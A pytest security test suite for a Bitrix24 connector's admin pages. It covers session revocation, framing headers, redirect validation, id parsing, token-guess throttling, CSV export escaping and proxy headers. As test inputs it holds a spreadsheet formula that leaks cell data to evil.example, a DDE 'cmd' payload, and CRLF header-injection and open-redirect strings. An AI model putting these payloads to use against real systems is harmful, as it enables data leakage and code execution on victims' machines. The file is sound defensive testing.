"""Attacks on the admin pages' sessions and what must come back: a cookie kept after
sign-out or after the admin token changed, a hostile site framing the pages, a crafted
`next`, hostile ids in the filters, guessing the admin token, a formula in an exported
cell, and a forged X-Forwarded-Proto."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import requests
from pydantic import SecretStr
from requests.adapters import HTTPAdapter
from sqlalchemy import insert

from connector.storage.portals import Installation
from connector.storage.schema import journal
from tests.security.conftest import ADMIN_TOKEN, CSRF, staff_session
from tests.support.stack import CLIENT_ID, TaskBridge
from webhooks.app import create_app

JSON = {"Accept": "application/json"}
BEARER = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
GUESS_LIMIT = 10  # webhooks.admin_auth.GUESS_LIMIT: wrong tokens per address per minute


def serve_with(bridge: TaskBridge, **changes: Any) -> None:
    """Restart the web app on the same address and database with changed settings."""
    bridge.server.mount.app = create_app(bridge.settings.model_copy(update=changes),
                                         bridge.storage)


class FromAddress(HTTPAdapter):
    """Connect from another loopback address (127.0.0.0/8 is all ours)."""

    def __init__(self, address: str) -> None:
        self._address = address
        super().__init__()

    def init_poolmanager(self, *args: Any, **kwargs: Any) -> None:
        kwargs["source_address"] = (self._address, 0)
        super().init_poolmanager(*args, **kwargs)


def client_at(address: str) -> requests.Session:
    session = requests.Session()
    session.mount("http://", FromAddress(address))
    return session


def open_as_portal_admin(bridge: TaskBridge, **headers: str) -> requests.Response:
    """What Bitrix24 posts when a portal admin opens the app (its DEFAULT placement)."""
    emulator = bridge.portal.emulator
    session = requests.Session()
    answer = session.post(f"{bridge.url}/bitrix/placement?DOMAIN=x&LANG=en", timeout=10,
                          allow_redirects=False, headers=headers, data={
                              "AUTH_ID": emulator.issue_tokens(CLIENT_ID, 1).access_token,
                              "AUTH_EXPIRES": "3600", "member_id": emulator.member_id,
                              "status": "L", "PLACEMENT": "DEFAULT",
                              "PLACEMENT_OPTIONS": "{}"})
    assert answer.status_code == 303, answer.text[:300]
    answer.session = session  # type: ignore[attr-defined]
    return answer


def sign_in(bridge: TaskBridge, session: requests.Session | None = None, *,
            token: str = ADMIN_TOKEN, next_path: str = "/admin/",
            headers: dict[str, str] | None = None) -> requests.Response:
    session = session or requests.Session()
    form = session.get(f"{bridge.url}/admin/login", timeout=10)
    csrf = CSRF.search(form.text)
    assert csrf, form.text[:300]
    return session.post(f"{bridge.url}/admin/login", timeout=10, allow_redirects=False,
                        headers=headers or {},
                        data={"csrf_token": csrf.group(1), "token": token, "next": next_path})


# -- sessions end on the server ---------------------------------------------------------

def test_a_cookie_kept_after_sign_out_is_refused(secured: TaskBridge) -> None:
    session, csrf = staff_session(secured)
    stolen = session.cookies.get("tb_admin")
    signed_out = session.post(f"{secured.url}/admin/logout", data={"csrf_token": csrf},
                              timeout=10, allow_redirects=False)
    assert signed_out.status_code == 303
    replayed = requests.get(f"{secured.url}/admin/", headers=JSON, timeout=10,
                            cookies={"tb_admin": stolen}, allow_redirects=False)
    assert replayed.status_code == 401
    assert replayed.json()["error"] == "sign_in"


@pytest.mark.parametrize("csrf", ["\U000fcc45", "é" * 40, ""])
def test_a_non_ascii_csrf_token_is_refused_not_a_crash(secured: TaskBridge, csrf: str) -> None:
    session, _ = staff_session(secured)
    answer = session.post(f"{secured.url}/admin/logout", data={"csrf_token": csrf},
                          headers=JSON, timeout=10, allow_redirects=False)
    assert answer.status_code == 400
    assert answer.json()["error"] == "csrf_failed"
    login = requests.Session()
    login.get(f"{secured.url}/admin/login", timeout=10)
    refused = login.post(f"{secured.url}/admin/login", timeout=10, allow_redirects=False,
                         data={"csrf_token": csrf, "token": ADMIN_TOKEN, "next": "/admin/"})
    assert refused.status_code == 400


def test_a_staff_cookie_ends_when_the_admin_token_changes(secured: TaskBridge) -> None:
    session, _ = staff_session(secured)
    stolen = session.cookies.get("tb_admin")
    serve_with(secured, admin_token=SecretStr("a-new-admin-token-after-a-leak-0123456789"))
    replayed = requests.get(f"{secured.url}/admin/", headers=JSON, timeout=10,
                            cookies={"tb_admin": stolen}, allow_redirects=False)
    assert replayed.status_code == 401
    fresh = sign_in(secured, token="a-new-admin-token-after-a-leak-0123456789")
    assert fresh.status_code == 303  # the new token signs in


def test_a_portal_admins_session_survives_an_admin_token_change(secured: TaskBridge) -> None:
    session = open_as_portal_admin(secured).session  # type: ignore[attr-defined]
    serve_with(secured, admin_token=SecretStr("a-new-admin-token-after-a-leak-0123456789"))
    assert session.get(f"{secured.url}/admin/", timeout=10).status_code == 200


def test_a_portal_admins_session_ends_when_the_portal_uninstalls(secured: TaskBridge) -> None:
    session = open_as_portal_admin(secured).session  # type: ignore[attr-defined]
    assert session.get(f"{secured.url}/admin/", timeout=10).status_code == 200
    secured.portal.emulator.installer.uninstall(CLIENT_ID, clean=False)
    assert secured.portal.sender.wait_idle(timeout=10)
    replayed = session.get(f"{secured.url}/admin/", headers=JSON, timeout=10,
                           allow_redirects=False)
    assert replayed.status_code == 401


# -- framing -----------------------------------------------------------------------------

def test_a_portal_admins_pages_may_be_framed_by_their_own_portal_only(
        secured: TaskBridge) -> None:
    secured.storage.portals.save(Installation(
        member_id="other-member", domain="other.example",
        client_endpoint="https://other.example/rest/"))
    session = open_as_portal_admin(secured).session  # type: ignore[attr-defined]
    domain = secured.portal.domain
    for path in ("/admin/", "/admin/settings", "/admin/events/999999"):
        page = session.get(f"{secured.url}{path}", timeout=10)
        # http:// as well only because the test portal is a development one (plain http).
        assert page.headers["Content-Security-Policy"] == \
            f"frame-ancestors https://{domain} http://{domain}", path
        assert "X-Frame-Options" not in page.headers


@pytest.mark.parametrize("path", ["/admin/", "/admin/events/1", "/admin/login"])
def test_staff_pages_and_the_sign_in_page_may_not_be_framed(
        secured: TaskBridge, path: str) -> None:
    page = requests.get(f"{secured.url}{path}", headers=BEARER, timeout=10)
    assert page.headers["Content-Security-Policy"] == "frame-ancestors 'none'"
    assert page.headers["X-Frame-Options"] == "DENY"


def test_a_refused_request_may_not_be_framed_either(secured: TaskBridge) -> None:
    page = requests.get(f"{secured.url}/admin/", headers=JSON, timeout=10)
    assert page.status_code == 401
    assert page.headers["Content-Security-Policy"] == "frame-ancestors 'none'"


# -- where sign-in leads ----------------------------------------------------------------

@pytest.mark.parametrize("hostile", [
    "/admin/\r\nSet-Cookie: tb_admin=planted",
    "/admin/\nLocation: https://evil.example/",
    "/admin/\x00",
    "//evil.example/admin/",
    "https://evil.example/admin/",
    "/admin/../bitrix/install",
    "/admin/\\\\evil.example",
    "/administrator",
    "/admin/\u2028",
])
def test_sign_in_sends_a_hostile_next_to_the_sync_log(secured: TaskBridge, hostile: str) -> None:
    shown = requests.get(f"{secured.url}/admin/login", params={"next": hostile}, timeout=10)
    assert shown.status_code == 200
    answer = sign_in(secured, next_path=hostile)
    assert answer.status_code == 303
    assert answer.headers["Location"] == "/admin/"


def test_sign_in_keeps_a_next_under_admin(secured: TaskBridge) -> None:
    answer = sign_in(secured, next_path="/admin/events/1?lang=it")
    assert answer.headers["Location"] == "/admin/events/1?lang=it"


# -- ids in filters -----------------------------------------------------------------------

@pytest.mark.parametrize("path", [
    "/admin/?task=\u00b2",              # str.isdigit says yes, int() says no
    "/admin/?task=" + "9" * 25,         # fits no database column
    "/admin/?before=\u00b2",
    "/admin/?portal=\u00b9",
    "/admin/?item=deal:\u00b2",
    "/admin/?item=deal:" + "9" * 25,
    "/admin/export.csv?task=\u00b2",
    "/admin/export.json?item=D_\u00b3",
    "/admin/portals/1/items/deal:\u00b2",
    "/admin/portals/1/items/deal:" + "9" * 25,
])
def test_a_hostile_id_in_a_filter_is_a_400(secured: TaskBridge, path: str) -> None:
    answer = requests.get(f"{secured.url}{path}", headers=BEARER, timeout=10)
    assert answer.status_code == 400, answer.text[:300]


@pytest.mark.parametrize("path", ["/admin/events/" + "9" * 25,
                                  "/admin/portals/" + "9" * 25 + "/items/deal:1"])
def test_an_id_too_long_for_any_row_in_a_path_is_a_404(secured: TaskBridge, path: str) -> None:
    answer = requests.get(f"{secured.url}{path}", headers=BEARER, timeout=10)
    assert answer.status_code == 404


def test_a_hostile_id_in_a_replay_form_is_a_400(secured: TaskBridge) -> None:
    answer = requests.post(f"{secured.url}/admin/replay", headers=BEARER, timeout=10,
                           data={"task": "9" * 25, "dry_run": "1"})
    assert answer.status_code == 400


# -- guessing the admin token -------------------------------------------------------------

def test_guessing_the_admin_token_is_throttled_per_address(secured: TaskBridge) -> None:
    attacker, colleague = client_at("127.0.0.2"), client_at("127.0.0.3")
    answers = [attacker.get(f"{secured.url}/admin/", timeout=10, headers={
        **JSON, "Authorization": f"Bearer guess-{n}"}).status_code for n in range(20)]
    assert answers[:GUESS_LIMIT] == [401] * GUESS_LIMIT
    assert answers[GUESS_LIMIT:] == [429] * (20 - GUESS_LIMIT)
    refused = attacker.get(f"{secured.url}/admin/", headers={**JSON, **BEARER}, timeout=10)
    assert refused.status_code == 429  # even a right guess waits, or guessing goes on
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    assert refused.json()["error"] == "too_many_attempts"
    assert colleague.get(f"{secured.url}/admin/", headers=BEARER, timeout=10).status_code == 200


def test_sign_in_guesses_count_against_the_same_address(secured: TaskBridge) -> None:
    attacker = client_at("127.0.0.4")
    answers = [sign_in(secured, attacker, token=f"guess-{n}").status_code
               for n in range(GUESS_LIMIT + 2)]
    assert answers == [401] * GUESS_LIMIT + [429, 429]
    blocked = sign_in(secured, attacker)
    assert blocked.status_code == 429 and "Retry-After" in blocked.headers
    assert "tb_admin" not in blocked.cookies
    assert sign_in(secured, client_at("127.0.0.5")).status_code == 303


def test_only_wrong_tokens_count(secured: TaskBridge) -> None:
    staff = client_at("127.0.0.6")
    for _ in range(GUESS_LIMIT + 5):
        assert staff.get(f"{secured.url}/admin/", headers=BEARER, timeout=10).status_code == 200
    typo = staff.get(f"{secured.url}/admin/", headers={**JSON, "Authorization": "Bearer typo"},
                     timeout=10)
    assert typo.status_code == 401


def test_a_forged_x_forwarded_for_does_not_escape_the_throttle(secured: TaskBridge) -> None:
    attacker = client_at("127.0.0.7")
    answers = [attacker.get(f"{secured.url}/admin/", timeout=10, headers={
        **JSON, "Authorization": f"Bearer guess-{n}", "X-Forwarded-For": f"203.0.113.{n}"},
    ).status_code for n in range(GUESS_LIMIT + 1)]
    assert answers[-1] == 429


# -- exports ------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the deal")'


def test_an_exported_cell_cannot_run_as_a_formula(secured: TaskBridge) -> None:
    stored = secured.stored()
    with secured.storage.engine.begin() as conn:
        conn.execute(insert(journal).values(
            portal_id=stored.id, member_id=stored.member_id, received_at=stored.installed_at,
            source="online", event="ONCRMDEALUPDATE", object_type="deal", object_id="7",
            object_key="deal:7", payload={}, dedupe_key="formula", state="dead", attempts=1,
            error=FORMULA))
    for evil in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"):
        with secured.storage.engine.begin() as conn:
            conn.execute(insert(journal).values(
                portal_id=stored.id, member_id=stored.member_id,
                received_at=stored.installed_at, source="online", event="ONCRMDEALUPDATE",
                object_type="deal", object_id="7", object_key="deal:7", payload={},
                dedupe_key=f"formula {evil!r}", state="dead", attempts=1, error=evil))
    exported = requests.get(f"{secured.url}/admin/export.csv?item=deal:7", headers=BEARER,
                            timeout=10)
    assert exported.status_code == 200
    errors = [row["error"] for row in csv.DictReader(io.StringIO(exported.text))]
    assert "'" + FORMULA in errors
    assert all(cell.startswith("'") for cell in errors), errors
    as_json = requests.get(f"{secured.url}/admin/export.json?item=deal:7", headers=BEARER,
                           timeout=10).json()
    assert FORMULA in [row["error"] for row in as_json]  # JSON is data, kept as it came


# -- behind a proxy -----------------------------------------------------------------------

HTTPS = {"X-Forwarded-Proto": "https"}


def test_a_forged_x_forwarded_proto_is_ignored_without_trust_proxy(
        secured: TaskBridge) -> None:
    answer = sign_in(secured, headers=HTTPS)
    assert answer.status_code == 303
    cookie = next(c for c in answer.raw.headers.getlist("Set-Cookie")
                  if c.startswith("tb_admin="))
    assert "Secure" not in cookie and "SameSite=Lax" in cookie


def test_behind_a_trusted_proxy_the_cookies_are_secure(secured: TaskBridge) -> None:
    serve_with(secured, trust_proxy=True)
    staff = sign_in(secured, headers=HTTPS)
    cookie = next(c for c in staff.raw.headers.getlist("Set-Cookie")
                  if c.startswith("tb_admin="))
    assert "Secure" in cookie and "SameSite=Lax" in cookie
    portal = open_as_portal_admin(secured, **HTTPS)
    cookie = next(c for c in portal.raw.headers.getlist("Set-Cookie")
                  if c.startswith("tb_admin="))
    assert "Secure" in cookie and "SameSite=None" in cookie


def test_behind_a_trusted_proxy_the_throttle_counts_the_forwarded_address(
        secured: TaskBridge) -> None:
    serve_with(secured, trust_proxy=True)
    proxy = client_at("127.0.0.8")

    def guess(client: str, token: str = "guess") -> int:
        return proxy.get(f"{secured.url}/admin/", timeout=10, headers={
            **JSON, "Authorization": f"Bearer {token}", "X-Forwarded-For": client,
        }).status_code

    assert [guess("198.51.100.1") for _ in range(GUESS_LIMIT + 1)][-1] == 429
    assert guess("198.51.100.2", ADMIN_TOKEN) == 200  # another client behind the same proxy
